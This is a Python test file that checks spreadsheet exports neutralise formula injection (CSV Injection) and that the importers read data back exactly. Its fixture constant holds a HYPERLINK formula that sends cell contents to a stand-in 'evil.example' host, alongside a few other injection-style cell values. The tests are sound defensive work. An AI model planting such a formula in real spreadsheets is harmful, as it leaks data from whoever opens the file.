"""Spreadsheet exports never hand a spreadsheet a formula (OWASP "CSV Injection"), and our
own importers give back exactly what was exported."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from coalition.io.csv_xlsx import (
    read_csv,
    read_csv_zip,
    read_xlsx,
    write_csv,
    write_csv_zip,
    write_xlsx,
)
from coalition.io.graph_model import MapEdge, MapGraph, MapNode
from coalition.io.outcomes_csv import export_csv
from coalition.io.safe_input import neutralise_cell, restore_cell
from coalition.schemas.outcomes import OutcomeIn
from coalition.services import outcomes
from coalition.store.tables import Initiative
from tests.factories import OP, outcomes_world

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@given(st.text())
def test_the_guard_is_reversible_and_leaves_no_formula(text: str) -> None:
    guarded = neutralise_cell(text)
    assert restore_cell(guarded) == text
    assert not guarded.startswith(FORMULA_START)


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _graph() -> MapGraph:
    nodes = (
        MapNode("a", ATTACK, kind="person", attrs={"note": "+1 555", "tags": ("@x", "y")}),
        MapNode("-b", "'=already quoted", attrs={"note": "'plain", "score": -2.5}),
    )
    return MapGraph(nodes=nodes, edges=(MapEdge("a", "-b", "=tie", weight=2.0),))


def test_map_csv_cells_are_neutralised_and_read_back_exactly() -> None:
    files = write_csv(_graph())
    for name, data in files.items():
        for row in csv.reader(io.StringIO(data.decode())):
            for cell in row:
                assert not cell.startswith(FORMULA_START) or _is_number(cell), (name, cell)
    elements = list(csv.reader(io.StringIO(files["elements.csv"].decode())))
    assert elements[1][1] == "'" + ATTACK
    assert elements[2][0] == "'-b" and elements[2][1] == "''=already quoted"
    # a number stays a number, so a spreadsheet can still add them up
    assert "-2.5" in elements[2]
    assert read_csv(files["elements.csv"], files["connections.csv"], files["fields.csv"]) == (
        _graph()
    )
    assert read_csv_zip(write_csv_zip(_graph())) == _graph()


def test_map_xlsx_text_cells_stay_text() -> None:
    data = write_xlsx(_graph())
    ws = load_workbook(io.BytesIO(data))["Elements"]
    cell = ws["B2"]
    assert cell.value == ATTACK and cell.data_type == "s" and cell.quotePrefix
    assert not ws["A2"].quotePrefix  # "a" needs no guard
    assert read_xlsx(data) == _graph()


def test_outcomes_csv_neutralises_every_text_cell(db: Session) -> None:
    w = outcomes_world(db)
    initiative = db.get(Initiative, w.initiative)
    assert initiative is not None
    initiative.title = ATTACK
    outcomes.add_outcome(
        db,
        w.caller(w.cleo),
        w.initiative,
        OutcomeIn.model_validate(
            {
                "name": "@SUM(A1:A9)",
                "unit": "-homes",
                "baseline": -3.0,
                "baseline_date": "2026-01-01",
                "target": 10.0,
                "direction": "increase",
                "due_date": "2026-04-11",
            }
        ),
    )
    db.flush()
    rows = list(csv.reader(io.StringIO(export_csv(db, OP, w.network, "outcomes"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["initiative"] == "'" + ATTACK
    assert row["name"] == "'@SUM(A1:A9)" and row["unit"] == "'-homes"
    assert row["baseline"] == "-3"  # numbers are not text
